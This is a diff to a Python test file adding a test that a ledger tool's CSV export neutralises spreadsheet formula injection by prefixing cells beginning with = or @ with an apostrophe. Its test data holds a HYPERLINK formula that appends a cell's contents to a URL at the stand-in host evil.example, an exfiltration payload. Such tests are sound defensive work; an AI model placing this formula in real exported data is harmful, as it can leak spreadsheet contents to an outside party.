@@ -202,6 +202,19 @@ def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path):
     assert ws.cell(3, 2).value == "+1"
 
 
+def test_csv_text_that_looks_like_a_formula_stays_text():
+    """The CSV download too: Excel runs a cell starting with = + - @ as a formula."""
+    import io
+
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+    table = ledger.Table("incidents", "事件", ["编号", "摘要", "差"],
+                         [[1, evil, -3], [2, "@SUM(A1)", "3-2班"]])
+    out = io.StringIO()
+    ledger.write_csv(table, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows[1] == ["1", "'" + evil, "-3"] and rows[2] == ["2", "'@SUM(A1)", "3-2班"]
+
+
 async def test_english_headings_with_language_en(built, engine_config):
     h, _ = built
     config = engine_config.model_copy(deep=True)
